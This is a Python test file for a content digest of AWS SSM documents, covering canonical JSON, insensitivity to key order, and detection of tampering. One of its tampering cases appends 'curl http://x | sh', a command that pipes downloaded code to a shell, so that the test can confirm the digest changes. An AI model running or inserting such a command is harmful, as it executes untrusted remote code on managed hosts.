"""The digest of an SSM document's content: of the content, not of its layout."""

from __future__ import annotations

import copy
import json

import yaml

from stacks.documents import DOCUMENT_KINDS, load_document
from updraft.document_digest import canonical, document_digest

DOCUMENT = {
    "schemaVersion": "2.2",
    "description": "Updraft apply: é",
    "parameters": {"TargetVersion": {"type": "String", "allowedPattern": "^[0-9.]+$"}},
    "mainSteps": [{"action": "aws:runShellScript", "name": "apply", "inputs": {"runCommand": ["set -eu", "true"]}}],
}


def test_the_canonical_form_is_sorted_compact_utf8_json():
    assert canonical({"b": [1, "é"], "a": {"d": 1, "c": 2}}) == '{"a":{"c":2,"d":1},"b":[1,"é"]}'.encode()


def test_key_order_and_whitespace_do_not_matter():
    reordered = json.loads(json.dumps(DOCUMENT, indent=4, sort_keys=True))
    reordered = dict(reversed(list(reordered.items())))
    assert list(reordered) != list(DOCUMENT)
    assert document_digest(reordered) == document_digest(DOCUMENT)
    # The same content written as YAML, and read back as JSON (what GetDocument answers for a YAML document).
    assert document_digest(yaml.safe_load(yaml.safe_dump(DOCUMENT))) == document_digest(DOCUMENT)


def test_any_change_of_content_changes_the_digest():
    base = document_digest(DOCUMENT)
    changes = [
        lambda d: d["mainSteps"][0]["inputs"]["runCommand"].append("curl http://x | sh"),
        lambda d: d["mainSteps"][0]["inputs"]["runCommand"].reverse(),  # order of a list is content
        lambda d: d["parameters"]["TargetVersion"].update(allowedPattern=".*"),
        lambda d: d.update(description=d["description"] + " "),
        lambda d: d.update(schemaVersion=2.2),  # a number is not the string
        lambda d: d["mainSteps"][0].update(timeoutSeconds="60"),
    ]
    digests = set()
    for change in changes:
        changed = copy.deepcopy(DOCUMENT)
        change(changed)
        digests.add(document_digest(changed))
    assert base not in digests and len(digests) == len(changes)


def test_every_shipped_document_has_a_digest_of_its_own():
    digests = {document_digest(load_document(kind)) for kind in (*DOCUMENT_KINDS, "health")}
    assert len(digests) == len(DOCUMENT_KINDS) + 1
    assert all(len(d) == 64 and int(d, 16) >= 0 for d in digests)
